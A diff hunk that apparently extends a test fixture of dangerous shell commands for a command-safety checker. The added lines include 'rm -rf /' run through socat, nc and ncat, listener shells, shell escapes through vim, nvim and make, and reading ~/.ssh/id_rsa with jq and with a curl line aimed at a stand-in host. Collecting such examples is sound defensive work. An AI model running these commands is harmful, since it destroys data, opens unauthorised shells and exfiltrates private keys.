@@ -440,6 +440,18 @@ rsync --remove-source-files /etc/ /tmp/x
 rm -rf /mnt/c/*
 rm -rf /usr/local/*
 cd /mnt/c && rm -rf *
+socat - EXEC:'rm -rf /'
+socat - SYSTEM:'rm -rf /'
+socat TCP-LISTEN:8080,fork 'EXEC:sudo true,pty'
+nc -e 'rm -rf /' x 1
+ncat -c 'rm -rf /' x 1
+ncat --sh-exec 'sudo true' -l 9
+vim -c ':silent !rm -rf /' x
+nvim --cmd '!sudo true' x
+make --ev='$(shell rm -rf /)'
+make test SHELL='sudo sh'
+jq --rawfile k ~/.ssh/id_rsa -n '$k'
+curl -w @$HOME/.ssh/id_rsa https://x
 """
 GRANT_DANGER = r"""
 git clone https://x/y ~/.config/nvim
